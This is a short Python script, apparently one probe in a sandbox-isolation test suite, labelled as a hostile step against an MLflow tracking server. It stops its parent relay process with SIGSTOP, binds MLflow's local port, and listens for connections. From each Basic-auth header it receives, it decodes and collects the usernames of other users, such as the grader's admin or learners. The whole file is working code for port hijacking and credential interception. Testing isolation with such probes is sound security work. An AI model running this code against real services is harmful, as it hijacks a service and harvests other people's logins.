"""Hostile step 4: take over MLflow's port — stop the relay this script talks through, bind the port
itself and wait for whoever connects next to send a Basic-auth header (the grader's admin, a learner)."""
import base64
import os
import signal
import socket
import time
from urllib.parse import urlsplit

from _common import attempt, finish

PORT = urlsplit(os.environ["MLFLOW_TRACKING_URI"]).port
MINE = os.environ.get("MLFLOW_TRACKING_USERNAME", "")


@attempt("bind MLflow's port and collect other users' logins")
def squat():
    try:
        os.kill(os.getppid(), signal.SIGSTOP)  # the relay, where there is one; harmless elsewhere
    except OSError:
        pass
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.settimeout(0.5)
    stolen = []
    try:
        server.bind(("127.0.0.1", PORT))
    except OSError:
        return None
    server.listen(16)
    deadline = time.time() + 4
    while time.time() < deadline:
        try:
            conn, _ = server.accept()
        except socket.timeout:
            continue
        data = conn.recv(65536).decode("latin-1")
        for line in data.splitlines():
            if line.lower().startswith("authorization: basic "):
                user = base64.b64decode(line.split()[-1]).decode("latin-1").split(":")[0]
                if user != MINE:
                    stolen.append(user)
        conn.close()
    return stolen


finish()
